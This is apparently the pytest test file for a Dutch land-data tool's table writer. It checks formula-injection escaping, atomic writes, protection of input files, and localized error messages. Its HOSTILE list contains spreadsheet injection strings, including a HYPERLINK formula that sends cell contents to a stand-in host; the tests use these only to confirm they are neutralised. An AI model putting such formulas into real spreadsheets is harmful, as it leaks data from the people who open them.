"""terreinen.io.write: safe cells, the file name decides the format, outputs never replace inputs,
atomic writes (modes, links, devices, full disk, signals)."""

from __future__ import annotations

import contextlib
import errno
import json
import os
import signal
import stat
import subprocess
import sys
import time

import numpy as np
import openpyxl
import pandas as pd
import pytest
import shapely
from conftest import ROOT, X0, Y0, cli, frame, parcel, rect

from terreinen import settings
from terreinen.errors import TerreinenWriteError
from terreinen.io.write import (
    DUTCH_CSV,
    atomic_path,
    csv_text,
    original_text,
    refuse_inputs,
    safe_cell,
    table_to_json,
    write_table,
)

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"Klik")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'=x"]


def leftovers(folder):
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def _written(folder) -> int:
    """Bytes in the temporary files (and folders) of ``folder`` so far."""
    total = 0
    for name in leftovers(folder):
        path = folder / name
        files = path.rglob("*") if path.is_dir() else [path]
        with contextlib.suppress(FileNotFoundError):  # renamed or removed meanwhile
            total += sum(p.stat().st_size for p in files if p.is_file())
    return total


def unprefix(value):
    """The documented CSV rule undone (terreinen.io.write.original_text)."""
    return original_text(value) if isinstance(value, str) else value


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_prefixes_formula_starts_and_is_reversible(text):
    assert safe_cell(text) == "'" + text
    assert unprefix(safe_cell(text)) == text


def test_safe_cell_leaves_plain_text_and_numbers():
    assert safe_cell("Broeklanden") == "Broeklanden"
    assert safe_cell(-3.5) == -3.5 and safe_cell(7) == 7


def test_csv_and_xlsx_keep_text_as_text_and_numbers_as_numbers(tmp_path):
    table = pd.DataFrame({"=naam": HOSTILE, "ha": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0]})
    write_table(table, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", dtype={"'=naam": str}, keep_default_na=False)
    assert list(back.columns) == ["'=naam", "ha"]
    assert [unprefix(v) for v in back["'=naam"]] == HOSTILE
    assert back["ha"].tolist() == table["ha"].tolist()  # numbers are not prefixed
    write_table(table, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["tabel"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    # literally, no prefix; XML reads a carriage return as a line feed (documented)
    assert [c.value for c in sheet["A"]] == ["=naam", *(t.replace("\r", "\n") for t in HOSTILE)]
    assert [c.value for c in sheet["B"]][1:] == [-1.5, 2, 3, 4, 5, 6, 7]
    assert {c.data_type for c in sheet["B"][1:]} == {"n"}


def test_xlsx_replaces_only_what_xml_cannot_hold(tmp_path):
    write_table(pd.DataFrame({"a": ["x\x01y", "tab\there"]}), tmp_path / "c.xlsx")
    values = [c.value for c in openpyxl.load_workbook(tmp_path / "c.xlsx")["tabel"]["A"]]
    assert values == ["a", "x\ufffdy", "tab\there"]


def test_csv_text_for_the_screen_uses_the_same_rule():
    assert csv_text(pd.DataFrame({"a": ["=1+1"]})) == '"a"\n"\'=1+1"\n'


@pytest.mark.parametrize(
    ("name", "fmt", "message"),
    [
        ("t.xlsx", "csv", "the file name is xlsx, but the format asked for is csv"),
        ("t.csv", "json", "the file name is csv, but the format asked for is json"),
        ("t.txt", None, "cannot write 'txt'"),
        ("t", None, "cannot write ''"),
    ],
)
def test_format_must_agree_with_the_file_name(tmp_path, name, fmt, message):
    with pytest.raises(TerreinenWriteError, match=message):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / name, fmt)
    assert list(tmp_path.iterdir()) == []


def test_file_name_decides_the_format(tmp_path):
    table = pd.DataFrame({"a": [1.5]})
    write_table(table, tmp_path / "t.json")
    assert (tmp_path / "t.json").read_text().strip().startswith("[")
    write_table(table, tmp_path / "t.xlsx")
    assert openpyxl.load_workbook(tmp_path / "t.xlsx")["tabel"]["A2"].value == 1.5


def test_output_that_is_an_input_is_refused_by_name_symlink_and_hard_link(tmp_path):
    source = tmp_path / "k.csv"
    source.write_text("kavel_id\nA\n")
    (tmp_path / "link.csv").symlink_to(source)
    os.link(source, tmp_path / "hard.csv")
    for output in ("k.csv", "link.csv", "hard.csv", "./sub/../k.csv"):
        (tmp_path / "sub").mkdir(exist_ok=True)
        with pytest.raises(TerreinenWriteError, match="never overwrites its inputs"):
            write_table(pd.DataFrame({"a": [1]}), tmp_path / output, inputs=[source])
    assert source.read_text() == "kavel_id\nA\n"
    folder = tmp_path / "parts"
    folder.mkdir()
    with pytest.raises(TerreinenWriteError, match="lies inside the input"):
        refuse_inputs(folder / "x.csv", [folder])
    refuse_inputs(tmp_path / "other.csv", [source, None, pd.DataFrame()])  # no error


def test_atomic_write_keeps_permission_bits(tmp_path):
    target = tmp_path / "t.csv"
    target.write_text("old")
    target.chmod(0o640)
    write_table(pd.DataFrame({"a": [1]}), target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert target.read_text() == '"a"\n1\n'


def test_atomic_write_goes_through_a_symbolic_link(tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    write_table(pd.DataFrame({"a": [1]}), link)
    assert link.is_symlink() and real.read_text() == '"a"\n1\n'


def test_new_files_follow_the_umask(tmp_path):
    old = os.umask(0o027)
    try:
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "n.csv")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "n.csv").stat().st_mode) == 0o640


def test_fifo_device_and_folder_targets_are_refused(tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    with pytest.raises(TerreinenWriteError, match="not a regular file"):
        write_table(pd.DataFrame({"a": [1]}), fifo)
    with pytest.raises(TerreinenWriteError, match="not a regular file"), atomic_path("/dev/null"):
        pass
    (tmp_path / "dir.csv").mkdir()
    with pytest.raises(TerreinenWriteError, match="is a folder"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "dir.csv")
    assert leftovers(tmp_path) == []


def test_full_disk_is_a_plain_message_and_leaves_nothing(tmp_path, monkeypatch):
    def no_space(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("os.write", no_space)
    with pytest.raises(TerreinenWriteError, match="the disk is full; nothing was written"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "t.csv")
    assert list(tmp_path.iterdir()) == []


def test_interrupt_inside_the_block_leaves_no_temporary_file(tmp_path):
    with pytest.raises(KeyboardInterrupt), atomic_path(tmp_path / "t.gpkg") as tmp:
        tmp.write_text("half")
        (tmp.parent / f"{tmp.name}-journal").write_text("x")  # GDAL's side file
        raise KeyboardInterrupt
    assert list(tmp_path.iterdir()) == []


@pytest.fixture(scope="module")
def big_parcels(tmp_path_factory):
    """Enough parcels that writing their GeoPackage takes a noticeable while."""
    path = tmp_path_factory.mktemp("big") / "big.parquet"
    n = 30_000
    x, y = np.arange(n) % 200 * 20.0, np.arange(n) // 200 * 20.0
    parcels = frame([parcel("K", rect(0, 0, 1, 1))] * n)  # every column, then each its own
    parcels["kavel_id"] = [f"K{i}" for i in range(n)]
    parcels.geometry = shapely.box(X0 + x, Y0 + y, X0 + x + 20, Y0 + y + 20)
    parcels.to_parquet(path)
    return path


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_killed_while_writing_leaves_no_temporary_file(tmp_path, big_parcels, signum):
    command = [sys.executable, "-m", "terreinen", "export", big_parcels, "--to", "out.gpkg"]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    process = subprocess.Popen(command, cwd=tmp_path, env=env, stderr=subprocess.PIPE)
    # the writer's own signal that it is inside the write: its temporary file holds data
    deadline = time.monotonic() + 120
    while _written(tmp_path) < 64_000 and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.002)
    if process.poll() is not None or _written(tmp_path) < 64_000:
        pytest.fail(f"the write was not seen under way: {process.communicate()[1].decode()}")
    process.send_signal(signum)
    stderr = process.communicate(timeout=120)[1].decode()
    assert process.returncode == (143 if signum == signal.SIGTERM else 130), stderr
    assert "Traceback" not in stderr
    assert list(tmp_path.iterdir()) == []  # neither a temporary file nor a half output


def test_csv_and_json_round_as_the_contract_states():
    # 10.12 + 21.14 is 31.259999999999998 in floating point; 20 / 3 years is 6.666...
    table = pd.DataFrame(
        {
            "gebied": ["Assen"],
            "terstond_ha": [10.12 + 21.14],
            "uitgifte_ha_per_jaar": [2.0 / 3.0],
            "voorraad_jaren_hard": [20.0 / 3.0],
            "lat": [52.123456789],
            "OPPBRUTO": [312599.99999999994],
        }
    )
    lines = csv_text(table).splitlines()
    assert lines[1] == '"Assen",31.26,0.67,6.67,52.123456789,312600.0'
    assert json.loads(table_to_json(table)) == [
        {
            "gebied": "Assen",
            "terstond_ha": 31.26,
            "uitgifte_ha_per_jaar": 0.67,
            "voorraad_jaren_hard": 6.67,
            "lat": 52.123456789,
            "OPPBRUTO": 312600.0,
        }
    ]
    assert csv_text(table, DUTCH_CSV).splitlines()[1] == '"Assen";31,26;0,67;6,67;52,12;312600,00'


def test_the_command_line_writes_no_float_noise(tmp_path):
    path = tmp_path / "parks.csv"
    path.write_text(
        "RIN_NUMMER,PLAN_NAAM,GEMEENTE,PROVINCIE,OPPBRUTO,OPPNETTO,UITGEGEVEN,"
        "TERSTOND_UITGEEFBAAR,NIET_TERSTOND_UITGEEFBAAR,ZACHTE_PLANCAPACITEIT\n"
        "1,A,Assen,Drenthe,200000,150000,4.88,10.12,0,0\n"
        "2,B,Assen,Drenthe,300000,250000,3.86,21.14,0,0\n",
        encoding="utf-8",
    )
    args = ("capacity", path, "--as-of", "2026-01-01")
    result = cli(*args, "-f", "json")
    assert result.exit_code == 0, result.stderr
    assert '"terstond_ha":31.26,' in result.stdout.replace(" ", "")
    result = cli(*args, "-f", "csv", "--csv", "international")
    header, assen, _ = result.stdout.splitlines()
    row = dict(zip(header.replace('"', "").split(","), assen.split(","), strict=True))
    assert (row["terstond_ha"], row["bruto_ha"], row["uitgegeven_ha"]) == ("31.26", "50.0", "8.74")


@pytest.mark.parametrize(
    ("output", "said"),
    [
        (
            "k.csv",
            "{tmp}/k.csv: de uitvoer is de invoer {tmp}/k.csv; terreinen overschrijft zijn "
            "invoer nooit, kies dus een ander uitvoerbestand",
        ),
        ("geen/t.csv", "{tmp}/geen/t.csv: de map {tmp}/geen bestaat niet"),
        (
            "t.txt",
            "{tmp}/t.txt: 'txt' is geen formaat om naar te schrijven; de bestandsnaam bepaalt "
            "het formaat: laat hem eindigen op een van .csv, .json, .xlsx",
        ),
    ],
)
def test_an_output_that_cannot_be_written_is_said_in_dutch(tmp_path, monkeypatch, output, said):
    """Issue 22, item 1: the reader's language (Dutch by default) in the Python API too."""
    monkeypatch.setattr(settings, "language", "nl")
    source = tmp_path / "k.csv"
    source.write_text("kavel_id\nA\n")
    with pytest.raises(TerreinenWriteError) as raised:
        write_table(pd.DataFrame({"a": [1]}), tmp_path / output, inputs=[source])
    assert str(raised.value) == said.format(tmp=tmp_path)
